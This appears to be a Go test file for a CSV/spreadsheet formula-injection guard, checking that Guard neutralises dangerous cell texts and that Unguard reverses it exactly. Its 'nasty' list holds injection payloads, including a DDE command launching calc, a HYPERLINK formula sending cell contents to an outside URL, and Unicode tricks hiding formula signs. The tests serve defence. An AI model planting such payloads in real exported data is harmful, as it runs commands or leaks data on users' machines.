package tabular

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// nasty are texts that spreadsheets are known to run, alone or after a character that they strip or cut at.
// Sources: OWASP "CSV injection"; Excel's handling of full-width signs in East Asian settings.
var nasty = []string{
	"=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx",
	" =1", "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\u00ad=1", "\u202e=1", "\x00=1", "\ufe0f=1", "\u2066=1",
	"＝1+1", "＋1", "－1", "＠x", " ＝1", "\u200b＋1", "﹦1", "−1",
	"a;=1", "a;b; @x", "a\t=1", "a\n=1", "a\r\n+1", "a;\u200b＝1", `a;"=1`, `"=1`, `a;""=cmd|' /C calc'!A0"`,
	"'=1", "''=1", "a;'=1", "' =1", "'\t=1",
	`=HYPERLINK("http://example.test?"&A1,"x")`, "=cmd|' /C calc'!A0",
}

var harmless = []string{
	"", "Hà Nội", "'quoted'", "rock 'n' roll", "a=b", "1-2", "a; b", "x@y.vn", "giờ; phút - giây", "5", "''", "a;'b'", "line\nline",
}

func TestNoPieceOfAGuardedTextBeginsWithAFormulaSign(t *testing.T) {
	t.Parallel()
	for _, s := range nasty {
		if g := Guard(s); g == s {
			t.Errorf("Guard(%q) left it as it is", s)
		} else if piece := live(g); piece != "" {
			t.Errorf("Guard(%q) = %q: %q would run", s, g, piece)
		}
	}
}

func TestHarmlessTextsAreNotChanged(t *testing.T) {
	t.Parallel()
	for _, s := range harmless {
		if g := Guard(s); g != s {
			t.Errorf("Guard(%q) = %q", s, g)
		}
		if u := Unguard(s); u != s {
			t.Errorf("Unguard(%q) = %q", s, u)
		}
	}
}

func TestUnguardTakesAwayExactlyWhatGuardAdded(t *testing.T) {
	t.Parallel()
	for _, s := range append(append([]string{}, nasty...), harmless...) {
		if got := Unguard(Guard(s)); got != s {
			t.Errorf("Unguard(Guard(%q)) = %q", s, got)
		}
	}
	alphabet := []string{"=", "+", "-", "@", "＝", "－", ";", "\t", "\r", "\n", "'", " ", "\u200b", "\"", "a", "1", "đ", "\xff"}
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Join(rapid.SliceOfN(rapid.SampledFrom(alphabet), 0, 24).Draw(t, "s"), "")
		g := Guard(s)
		if got := Unguard(g); got != s {
			t.Fatalf("Unguard(Guard(%q)) = %q", s, got)
		}
		if piece := live(g); piece != "" {
			t.Fatalf("Guard(%q) = %q: %q would run", s, g, piece)
		}
	})
}

// live returns a piece of s that a spreadsheet would run. It is written apart from risk: it strips first, then looks.
func live(s string) string {
	if strings.IndexAny(s, "\t\r\n") == 0 {
		return s
	}
	for _, piece := range strings.FieldsFunc(s, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		bare := strings.TrimLeft(piece, " \u00a0\u3000\u200b\ufeff\u00ad\u202e\x00\ufe0f\u2066\"\ufffd")
		if strings.IndexAny(bare, "=+-@＝＋－＠﹦−") == 0 {
			return piece
		}
	}
	return ""
}

func FuzzGuard(f *testing.F) {
	for _, s := range append(append([]string{}, nasty...), harmless...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := Unguard(Guard(s)); got != s {
			t.Fatalf("Unguard(Guard(%q)) = %q", s, got)
		}
	})
}
